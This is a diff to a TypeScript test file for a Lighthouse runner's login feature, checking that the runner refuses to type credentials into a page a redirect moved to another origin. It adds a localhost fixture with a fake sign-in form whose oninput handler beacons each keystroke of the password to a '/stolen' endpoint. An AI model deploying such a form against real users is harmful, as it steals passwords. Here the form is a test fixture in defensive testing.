@@ -1,3 +1,5 @@
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import {
   chromeFlags,
@@ -20,6 +22,10 @@ let site: DemoSite;
 let proxy: GuardProxy;
 let runner: ReturnType<typeof createLighthouseRunner>;
 let account: string;
+/** A site whose login page redirects to another origin (localhost), which keeps what is typed into it. */
+let hostile: Server;
+let hostilePort: number;
+const stolen: string[] = [];
 
 beforeAll(async () => {
   site = await startDemoSite({
@@ -32,6 +38,23 @@ beforeAll(async () => {
       }),
   });
   account = `${site.url}account/`;
+  hostile = createServer((req, res) => {
+    const url = new URL(req.url ?? '/', `http://${req.headers.host}`);
+    if (url.pathname === '/login' && url.hostname === '127.0.0.1')
+      return void res.writeHead(302, { Location: `http://localhost:${hostilePort}/login` }).end();
+    if (url.pathname === '/login')
+      // A copy of a sign-in form that sends whatever is typed into it home, key by key (a beacon
+      // goes even when the page is left at once).
+      return void res
+        .writeHead(200, { 'Content-Type': 'text/html' })
+        .end(
+          `<!doctype html><title>Sign in</title><input id="password" oninput="navigator.sendBeacon('/stolen?v=' + encodeURIComponent(this.value))">`,
+        );
+    if (url.pathname === '/stolen') stolen.push(url.searchParams.get('v') ?? '');
+    res.writeHead(200, { 'Content-Type': 'text/html' }).end('<!doctype html><title>Account</title><h1>Account</h1>');
+  });
+  await new Promise<void>((resolve) => hostile.listen(0, '127.0.0.1', resolve));
+  hostilePort = (hostile.address() as AddressInfo).port;
   const guard = createTargetGuard({ allow: parseAllowList('127.0.0.0/8,::1/128') });
   proxy = await startGuardProxy({ guard, logger: silentLogger });
   runner = createLighthouseRunner({
@@ -47,6 +70,7 @@ afterAll(async () => {
   await runner?.close();
   await proxy?.close();
   await site?.close();
+  await new Promise((resolve) => hostile?.close(resolve));
 });
 
 const run = (auth?: Parameters<typeof runner.run>[0]['auth']) =>
@@ -98,6 +122,51 @@ describe('authenticated runs', () => {
       ],
     });
     expect(lhr.finalDisplayedUrl).toBe(account);
+  }, 180_000);
+
+  it('types nothing into a page a redirect took to another origin, and fails the run saying so', async () => {
+    stolen.length = 0;
+    const error = await runner
+      .run({
+        url: `http://127.0.0.1:${hostilePort}/account/`,
+        device: 'desktop',
+        timeoutMs: 120_000,
+        auth: {
+          login: [
+            { action: 'goto', url: `http://127.0.0.1:${hostilePort}/login` },
+            { action: 'fill', selector: '#password', value: 'p4ssw0rd-secret' },
+          ],
+        },
+      })
+      .catch((e: unknown) => e as Error);
+    expect(error).toMatchObject({ name: 'RunFailure', code: 'LOGIN_ORIGIN_MISMATCH', retryable: false });
+    expect((error as Error).message).toBe(
+      `login step 2 (fill #password) refused: the page is at http://localhost:${hostilePort}, not http://127.0.0.1:${hostilePort}, the origin it is meant for (give the step its origin if the sign-in is there)`,
+    );
+    expect(stolen).toEqual([]);
+  }, 180_000);
+
+  it('types into a page of another origin when the step names that origin', async () => {
+    stolen.length = 0;
+    const { lhr } = await runner.run({
+      url: `http://127.0.0.1:${hostilePort}/account/`,
+      device: 'desktop',
+      timeoutMs: 120_000,
+      auth: {
+        login: [
+          { action: 'goto', url: `http://127.0.0.1:${hostilePort}/login` },
+          {
+            action: 'fill',
+            selector: '#password',
+            value: 'sso-password',
+            origin: `http://localhost:${hostilePort}`,
+          },
+        ],
+      },
+    });
+    expect(lhr.finalDisplayedUrl).toBe(`http://127.0.0.1:${hostilePort}/account/`);
+    // The page named was typed into (and, being this test's, kept it): the check let it through.
+    expect(stolen).toContain('sso-password');
   }, 180_000);
 
   it('names the login step that failed, never the values it was given', async () => {
